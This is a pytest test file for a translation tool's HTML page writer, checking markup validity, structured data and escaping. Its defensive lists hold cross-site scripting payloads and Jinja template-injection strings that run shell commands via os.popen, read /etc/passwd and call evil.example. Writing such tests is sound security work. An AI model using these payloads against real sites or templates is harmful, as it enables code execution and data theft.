"""The web page: whole, valid, quiet."""

from __future__ import annotations

import json
import re
from dataclasses import replace

import html5lib
import pytest
from lxml import html

from workbench.errors import FormatError
from workbench.formats.html_out import FORMAT, HtmlFormat
from workbench.model.kinds import SegmentKind
from workbench.model.page import PageBlock, Sister

from_text = html.document_fromstring


def _structured(data):
    return json.loads(from_text(data).find(".//script").text)


@pytest.mark.parametrize("template", ["site.html", "plain.html"])
def test_the_page_parses_without_a_single_error(template, page, full_page):
    for each in (page, full_page):
        html5lib.HTMLParser(strict=True).parse(HtmlFormat(template).write(each).decode())


def test_the_page_has_the_shape_of_the_sample(page):
    tree = from_text(FORMAT.write(page))
    assert tree.get("lang") == "en"
    assert tree.find(".//h1").text == page.headline
    assert tree.find(".//time").get("datetime") == "2020-04-03"
    assert tree.find(".//nav").text == "Home > Photo News"
    assert [each.text for each in tree.xpath("//footer/p")] == [
        "This article is from Hunan Provincial Government",
        "Translator: Translator A",
    ]


def test_an_accepted_gap_is_left_out_and_never_filled_with_chinese(page):
    written = FORMAT.write(page).decode()
    assert "Chinese source" not in written
    assert not re.search("[\u3400-\u9fff]", written)


def test_structured_data_name_the_translator_and_the_original(full_page):
    data = _structured(FORMAT.write(full_page))
    assert data["@type"] == "NewsArticle"
    assert data["translator"] == [
        {"@type": "Person", "name": "Translator A"},
        {"@type": "Person", "name": "Translator D"},
    ]
    assert data["translationOfWork"] == {
        "@type": "NewsArticle",
        "inLanguage": "zh",
        "headline": "许达哲主持召开国际友城工作专题会议",
        "url": "https://www.hunan.gov.cn/news/1?a=1&b=2",
    }
    assert data["correction"][0]["datePublished"] == "2020-04-05"


@pytest.mark.parametrize(
    ("language", "line"),
    [
        ("en", "Chinese source: https://"),
        ("fr", "Source en chinois : https://"),
        ("ko", "중국어 원문: https://"),
        ("ja", "中国語原文：https://"),
        ("de", "Chinese source: https://"),
    ],
)
def test_credit_lines_speak_the_language_of_the_page(language, line, full_page):
    foot = FORMAT.read_back(FORMAT.write(replace(full_page, language=language))).foot
    assert any(each.startswith(line) for each in foot)


def test_the_address_of_the_original_is_a_link(full_page):
    links = from_text(FORMAT.write(full_page)).xpath("//footer//a/@href")
    assert links == ["https://www.hunan.gov.cn/news/1?a=1&b=2"]


def test_sisters_are_linked_in_head_and_body(full_page):
    tree = from_text(FORMAT.write(full_page))
    assert tree.xpath("//link[@rel='alternate']/@hreflang") == ["fr", "ko"]
    assert tree.xpath("//nav[@class='languages']/a/text()") == ["Français", "한국어"]


PAYLOADS = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">', "<iframe srcdoc='<script>alert(1)</script>'>",
    "javascript:alert(1)", "java\tscript:alert(1)", "&#106;avascript:alert(1)", "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "<template><script>alert(1)</script></template>",
    "{{ ''.__class__ }}", "{% for x in range(9) %}x{% endfor %}", "<!--><img src=x onerror=alert(1)>-->", "]]>",
    "\u2028alert(1)\u2029", "<form action=//evil.example><button formaction=javascript:alert(1)>",
    "<video poster=//evil.example/p>", "' onmouseover='alert(1)", "\\u003cscript>alert(1)", "<!--", "-->",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_becomes_markup_wherever_it_stands(payload, full_page):
    hostile = replace(
        full_page,
        headline=payload,
        section=payload.replace(">", "›"),
        outlet=payload,
        summary=payload,
        keywords=(payload,),
        translators=(payload,),
        source_address=payload,
        source_headline=payload,
        notes=(payload,),
        photos=tuple(
            replace(each, caption=payload, credit=payload, alt=payload) for each in full_page.photos
        ),
        blocks=tuple(PageBlock(kind, payload) for kind in SegmentKind),
        sisters=(Sister("fr", payload), Sister('"><script>', "https://example.org/")),
    )
    harmless = replace(hostile, sisters=())
    for each in (FORMAT, HtmlFormat("plain.html")):
        tree = from_text(each.write(hostile))
        tags = {element.tag for element in tree.iter() if isinstance(element.tag, str)}
        assert tags <= {"html", "head", "body", "meta", "title", "link", "script", "style", "div", "header", "nav", "a",
                        "main", "article", "h1", "h2", "p", "time", "figure", "img", "figcaption", "span", "footer",
                        "br"}  # fmt: skip
        assert len(tree.findall(".//script")) == len(tree.findall(".//style")) == 1
        assert not [name for element in tree.iter() for name in element.attrib if name.startswith("on")]
        assert set(tree.xpath("//a/@href")) <= {"https://example.org/"}
        assert all(address.endswith(".png") for address in tree.xpath("//img/@src"))
        assert each.differences(harmless, each.write(harmless)) == []


def test_a_preview_shows_the_same_page_with_its_pictures_inside(full_page):
    written, preview = FORMAT.write(full_page).decode(), FORMAT.preview(full_page)
    assert re.sub(r'src="[^"]+"', "", written) == re.sub(r'src="[^"]+"', "", preview)
    assert preview.count('src="data:image/png;base64,') == 2


@pytest.fixture
def template(tmp_path):
    def make(text: str) -> HtmlFormat:
        path = tmp_path / "mine.html"
        path.write_text(text, encoding="utf-8")
        return HtmlFormat(path)

    return make


GOOD = """{% import "_page.html" as part %}<!DOCTYPE html><html lang="{{ page.language }}"><head>{{ part.head(page) }}
</head><body><h1>{{ page.headline|upper }}</h1><h2>{{ page.headline }}</h2>{{ part.blocks(page) }}</body></html>"""


def test_a_user_can_bring_a_template_of_their_own(template, full_page):
    mine = template(GOOD)
    data = mine.write(full_page)
    assert b"R&amp;D: &lt;HUNAN&gt;" in data
    assert mine.differences(full_page, data) == []


def test_a_template_that_loses_a_paragraph_is_caught(template, full_page):
    mine = template(
        "<!DOCTYPE html><title>x</title><h1>{{ page.headline }}</h1><p>{{ page.blocks[0].text }}</p>"
    )
    sentences = mine.differences(full_page, mine.write(full_page))
    assert len(sentences) == len(full_page.blocks) - 1


@pytest.mark.parametrize(
    "text",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ page.__class__.__init__.__globals__ }}",
        "{{ self._TemplateReference__context }}{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ lipsum.__globals__['os'].popen('id').read() }}",
        "{% include '/etc/passwd' %}",
        "{% include '../../../../etc/passwd' %}",
        "{% import 'os' as os %}",
        "{{ page.headline|safe }}",
        "{{ page.blocks.append('x') }}",
        "{{ page.nothing }}",
        "{% for x in page.blocks %}",
        "{{ 1/0 }}",
        "{{ 'a' * 10**9 }}{{ 'b' * 10**9 }}",
        "<script>alert(1)</script>",
        "<h1 onclick=alert(1)>{{ page.headline }}</h1>",
        "<img src='https://evil.example/{{ page.headline }}'>",
        "<link rel=stylesheet href='https://evil.example/x.css'>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<p style=\"background: url('//evil.example')\">x</p>",
        "<a href='java&#9;script:alert(1)'>x</a>",
        "<iframe src='https://evil.example'></iframe>",
        "<img srcset='//evil.example/x 2x'>",
    ],
)
def test_a_template_that_reaches_too_far_is_refused_with_its_name(text, template, page):
    with pytest.raises(FormatError, match=r"mine\.html"):
        template(text).write(page)


def test_a_template_without_end_is_stopped(template, page, monkeypatch):
    monkeypatch.setattr("workbench.formats.templates.CHILD_SECONDS", 1)
    endless = "{% set r = [1,2,3,4,5,6,7,8,9,10]*100 %}" + "{% for a in r %}" * 5 + "{% endfor %}" * 5
    with pytest.raises(FormatError, match="was stopped"):
        template(endless).write(page)
